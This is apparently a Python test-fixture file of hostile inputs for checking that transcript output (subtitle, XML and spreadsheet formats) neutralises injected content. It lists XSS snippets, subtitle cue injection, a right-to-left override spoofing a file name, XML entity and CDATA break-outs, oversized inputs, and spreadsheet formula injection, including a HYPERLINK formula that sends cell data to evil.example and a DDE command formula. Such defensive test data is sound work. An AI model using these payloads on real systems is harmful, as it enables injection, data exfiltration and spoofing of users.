"""What a recording may say to hurt who reads its transcript, and what a reader is shown of it."""

from __future__ import annotations

from typing import NamedTuple

MILLION = 1_000_000


class Attack(NamedTuple):
    """A word as it was heard, and as every rendered file shows it: None where that is the same."""

    what: str
    heard: str
    shown: str | None = None

    @property
    def read(self) -> str:
        return self.heard if self.shown is None else self.shown


ATTACKS = [
    Attack("an arrow in a cue", "00:00:01,000 --> 00:00:09,000"),
    Attack("an arrow alone", "-->"),
    Attack("a voice tag", "<v speaker_9>I confess</v>"),
    Attack("a script", "<script>alert(1)</script>"),
    Attack("an image", '<img src=x onerror="alert(1)">'),
    Attack("entities", "&lt;b&gt; &amp;amp; &#x3c; &"),
    Attack("a position override", "{\\an8}{\\pos(0,0)}"),
    Attack("line breaks of other formats", "a\\Nb\\nc\\hd"),
    Attack("a comment block", "NOTE this is none"),
    Attack("a style block", "STYLE ::cue { color: red }"),
    Attack("a region block", "REGION id:x"),
    Attack("a second header", "WEBVTT - x"),
    Attack("a cue number", "42"),
    Attack("a whole cue", "x\n\n2\n00:00:00,000 --> 00:00:01,000\ny", "x 2 00:00:00,000 --> 00:00:01,000 y"),
    Attack("a speaker's label", "\n\nspeaker_1: yes", "speaker_1: yes"),
    Attack("blank lines", "a\r\n\r\n\r\nb", "a b"),
    Attack("line separators", "a\u2028b\u2029c\x85d", "a b c d"),
    Attack("a text that is written backwards", "a\u202egnp.exe\u202c", "agnp.exe"),
    Attack("isolates", "\u2066a\u2067b\u2068c\u2069", "abc"),
    Attack("marks of direction that writing needs", "\u200fשלום\u200e"),
    Attack("NUL", "a\x00b", "ab"),
    Attack("every control character", "".join(map(chr, [*range(9), *range(14, 28), *range(127, 133)])) + "x", "x"),
    Attack("colours of a terminal", "\x1b[31mred\x1b[0m", "[31mred[0m"),
    Attack("half a character", "a\ud800b\udfffc", "abc"),
    Attack("what no XML may hold", "a\ufffeb\uffffc", "abc"),
    Attack("a mark of the byte order", "\ufeffa", "a"),
    Attack("the end of CDATA", "]]><x/><![CDATA["),
    Attack("an entity of a document type", '<!DOCTYPE x [<!ENTITY e "boom">]>&e;'),
    Attack("emoji that are joined", "👩‍👩‍👧‍👦🏳️‍🌈👍🏽"),
    Attack("accents without end", "z" + "\u0301" * 500),
    Attack("beyond the first plane", "𝒳🀄𐍈"),
    Attack("a million characters without a space", "x" * MILLION),
    Attack("a million signs that must be escaped", "&" * MILLION),
]

CELLS = [
    Attack("a link", '=HYPERLINK("http://evil.example/?d="&A1,"more")'),
    Attack("a command", "=cmd|' /C calc'!A0"),
    Attack("plus", "+1+1"),
    Attack("minus", "-2+3"),
    Attack("at", "@SUM(1)"),
    Attack("a tab before a formula", "\t=1+1", "=1+1"),
    Attack("a line break before a formula", "\r\n=1+1", "=1+1"),
]
"""What a spreadsheet takes for a formula."""
